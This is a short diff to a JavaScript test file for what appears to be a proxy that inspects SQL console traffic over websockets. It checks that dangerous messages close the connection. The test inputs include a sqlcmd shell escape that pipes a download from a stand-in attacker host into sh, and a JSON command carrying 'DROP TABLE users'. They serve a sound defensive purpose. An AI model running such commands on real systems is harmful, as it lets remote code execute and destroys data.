@@ -1928,6 +1928,8 @@ t.test('seventeenth pass: other consoles behind websocketd (sqlcmd, SQL*Plus, SQ
   }
   // Through the proxy (the same reader): a shell command closes the tunnel.
   t.equal((await wsExchange(`ws://sql.example:${rich.port}/console`, [], ['SELECT 1', '!!curl https://evil.example/x | sh'])).code, 1008, 'sqlcmd !! closed');
+  // A JSON message's `command` carrying SQL is judged as its POST twin's (it went on as no SQL).
+  t.equal((await wsExchange(`ws://sql.example:${rich.port}/api`, [], [JSON.stringify({ command: 'DROP TABLE users' })])).code, 1008, '{command: DROP …} closed');
 });
 
 t.test('sixteenth pass: MySQL\'s client protocol through a bridge is read packet by packet, each statement judged', async (t) => {
